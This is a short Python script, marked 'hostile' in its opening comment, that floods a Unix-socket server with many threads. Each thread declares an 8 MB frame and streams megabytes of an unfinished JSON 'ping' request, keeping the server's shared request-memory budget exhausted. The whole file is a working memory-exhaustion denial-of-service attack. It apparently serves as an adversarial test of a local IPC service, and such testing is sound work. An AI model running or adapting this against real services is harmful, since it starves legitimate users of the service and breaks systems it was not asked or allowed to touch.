# hostile: keep the shared request-memory budget full with frames that never complete
import socket, struct, sys, threading, time
ep = sys.argv[1]; n = int(sys.argv[2]); dur = float(sys.argv[3]); size = int(sys.argv[4]) if len(sys.argv) > 4 else 7*1024*1024
stop = time.time() + dur
def worker():
    chunk = b'{"v":1,"id":1,"cmd":"ping","args":{"x":[' + b'0,' * 1000
    while time.time() < stop:
        try:
            s = socket.socket(socket.AF_UNIX); s.connect(ep)
            s.sendall(struct.pack('<I', 8*1024*1024 - 16))
            sent = 0
            body = b'0,' * (1 << 16)
            s.sendall(chunk)
            while sent < size:
                s.sendall(body); sent += len(body)
            s.settimeout(6)
            try: s.recv(100)
            except Exception: pass
            s.close()
        except Exception as e:
            time.sleep(0.05)
ts = [threading.Thread(target=worker) for _ in range(n)]
[t.start() for t in ts]; [t.join() for t in ts]
